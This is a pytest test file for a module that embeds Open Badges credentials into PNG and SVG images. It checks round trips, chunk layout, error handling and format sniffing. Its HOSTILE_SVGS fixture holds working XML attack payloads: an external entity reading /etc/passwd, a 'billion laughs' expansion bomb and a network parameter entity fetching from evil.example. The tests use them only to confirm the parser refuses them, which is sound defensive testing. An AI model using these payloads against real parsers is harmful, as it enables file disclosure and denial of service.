"""Baked badges: PNG iTXt and SVG element round trips, the exact PNG chunk, hostile SVG."""

from __future__ import annotations

import io
import json
import struct
import zlib

import pytest
from lxml import etree
from PIL import Image

from charter.core.errors import Invalid
from charter.credentials import baking

CREDENTIAL = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "id": "urn:uuid:1",
        "name": 'Café <Cloud> & "Architect" ]]> done',
    },
    ensure_ascii=False,
)


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """Parse a PNG's chunks independently of the module under test."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    chunks, offset = [], 8
    while offset < len(data):
        (length,) = struct.unpack(">I", data[offset : offset + 4])
        kind = data[offset + 4 : offset + 8]
        body = data[offset + 8 : offset + 8 + length]
        (crc,) = struct.unpack(">I", data[offset + 8 + length : offset + 12 + length])
        assert crc == zlib.crc32(kind + body)
        chunks.append((kind, body))
        offset += 12 + length
    return chunks


@pytest.fixture(scope="module")
def plain_png() -> bytes:
    return baking.default_badge_png("Acme Certified Cloud Architect", "Acme Partners", "#1f6feb")


def test_png_round_trip_and_the_chunk_is_uncompressed_itxt(plain_png: bytes) -> None:
    baked = baking.bake_png(plain_png, CREDENTIAL)
    assert baking.extract_png(baked) == CREDENTIAL
    chunks = png_chunks(baked)
    ours = [body for kind, body in chunks if kind == b"iTXt"]
    assert len(ours) == 1
    keyword, rest = ours[0].split(b"\x00", 1)
    assert keyword == b"openbadgecredential"
    assert rest[0] == 0  # compression flag
    assert rest[1] == 0  # compression method
    assert rest[2:4] == b"\x00\x00"  # empty language tag and translated keyword
    assert rest[4:].decode("utf-8") == CREDENTIAL
    assert [kind for kind, _ in chunks][-2:] == [b"iTXt", b"IEND"]


def test_baked_png_still_opens_as_the_same_image(plain_png: bytes) -> None:
    baked = baking.bake_png(plain_png, CREDENTIAL)
    original = Image.open(io.BytesIO(plain_png))
    image = Image.open(io.BytesIO(baked))
    image.load()
    assert image.size == original.size == (600, 600)
    assert image.tobytes() == original.convert(image.mode).tobytes()


def test_rebaking_a_png_replaces_the_credential(plain_png: bytes) -> None:
    once = baking.bake_png(plain_png, CREDENTIAL)
    twice = baking.bake_png(once, '{"id": "urn:uuid:2"}')
    assert baking.extract_png(twice) == '{"id": "urn:uuid:2"}'
    assert sum(1 for kind, _ in png_chunks(twice) if kind == b"iTXt") == 1


def test_png_with_two_chunks_gives_the_first(plain_png: bytes) -> None:
    chunks = png_chunks(plain_png)

    def itxt(text: str) -> bytes:
        body = b"openbadgecredential\x00\x00\x00\x00\x00" + text.encode()
        return (
            struct.pack(">I", len(body))
            + b"iTXt"
            + body
            + struct.pack(">I", zlib.crc32(b"iTXt" + body))
        )

    def raw(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    data = b"\x89PNG\r\n\x1a\n" + raw(*chunks[0]) + itxt('{"n": 1}') + itxt('{"n": 2}')
    data += b"".join(raw(*chunk) for chunk in chunks[1:])
    assert baking.extract_png(data) == '{"n": 1}'


def test_png_without_a_credential_or_damaged_gives_a_clear_error(plain_png: bytes) -> None:
    with pytest.raises(Invalid, match="no Open Badges credential"):
        baking.extract_png(plain_png)
    damaged = bytearray(baking.bake_png(plain_png, CREDENTIAL))
    damaged[-20] ^= 0xFF
    with pytest.raises(Invalid, match=r"damaged|truncated"):
        baking.extract_png(bytes(damaged))
    with pytest.raises(Invalid, match="not a PNG"):
        baking.extract_png(b"GIF89a")


def test_svg_round_trip_puts_the_element_first_with_the_namespace_on_svg() -> None:
    svg = baking.default_badge_svg("Acme Certified Cloud Architect", "Acme Partners")
    baked = baking.bake_svg(svg, CREDENTIAL)
    assert json.loads(baking.extract_svg(baked)) == json.loads(CREDENTIAL)
    root = etree.fromstring(baked)
    assert root.nsmap["openbadges"] == "https://purl.imsglobal.org/ob/v3p0"
    first = root[0]
    assert first.tag == "{https://purl.imsglobal.org/ob/v3p0}credential"
    assert b"<openbadges:credential><![CDATA[" in baked


def test_rebaking_an_svg_replaces_the_credential() -> None:
    baked = baking.bake_svg(baking.default_badge_svg("A", "B"), CREDENTIAL)
    again = baking.bake_svg(baked, '{"id": "urn:uuid:2"}')
    assert baking.extract_svg(again) == '{"id": "urn:uuid:2"}'
    assert again.count(b"credential>") == 2  # one opening and one closing tag


def test_svg_extraction_matches_namespace_not_prefix_and_reads_jws() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="https://purl.imsglobal.org/ob/v3p0">'
        '<ob:credential verify="eyJhbGciOiJSUzI1NiJ9.e30.c2ln"/><ob:credential>{}</ob:credential>'
        "</svg>"
    )
    assert baking.extract_svg(svg) == "eyJhbGciOiJSUzI1NiJ9.e30.c2ln"
    wrong_namespace = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://example.org/other">'
        "<openbadges:credential>{}</openbadges:credential></svg>"
    )
    with pytest.raises(Invalid, match="no Open Badges credential"):
        baking.extract_svg(wrong_namespace)


HOSTILE_SVGS = {
    "external entity": (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
    ),
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>'
    ),
    "parameter entity from the network": (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">'
        ' %p;]><svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SVGS))
def test_hostile_svg_is_refused(name: str) -> None:
    with pytest.raises(Invalid) as raised:
        baking.bake_svg(HOSTILE_SVGS[name], CREDENTIAL)
    assert "passwd" not in str(raised.value)
    with pytest.raises(Invalid):
        baking.extract_svg(HOSTILE_SVGS[name])


def test_plain_doctype_without_entities_is_accepted() -> None:
    svg = (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'
    )
    assert baking.extract_svg(baking.bake_svg(svg, CREDENTIAL)) == CREDENTIAL.replace(
        "]]>", "]]\\u003e"
    )


def test_non_svg_xml_is_refused() -> None:
    with pytest.raises(Invalid, match="not an SVG"):
        baking.bake_svg("<html/>", CREDENTIAL)


def test_sniff_tells_json_png_and_svg_apart(plain_png: bytes) -> None:
    assert baking.sniff(b'\xef\xbb\xbf  {"a": 1}') == "json"
    assert baking.sniff(plain_png) == "png"
    assert baking.sniff(baking.default_badge_svg("A", "B")) == "svg"
    with pytest.raises(Invalid, match="not a credential"):
        baking.sniff(b"GIF89a...")


def test_default_designs_render_the_title_in_the_colour() -> None:
    svg = baking.default_badge_svg("Cloud <Architect>", "Acme & Co", "#0a7d4f")
    root = etree.fromstring(svg)
    text = "".join(root.itertext())
    assert "Cloud <Architect>" in text
    assert "Acme & Co" in text
    assert b"#0a7d4f" in svg
    image = Image.open(io.BytesIO(baking.default_badge_png("Cloud Architect", "Acme", "#0a7d4f")))
    assert image.size == (600, 600)
    # The outer ring is drawn in the requested colour.
    assert image.convert("RGB").getpixel((300, 55))[:3] == (0x0A, 0x7D, 0x4F)
    with pytest.raises(Invalid, match="colour"):
        baking.default_badge_png("A", "B", "green")
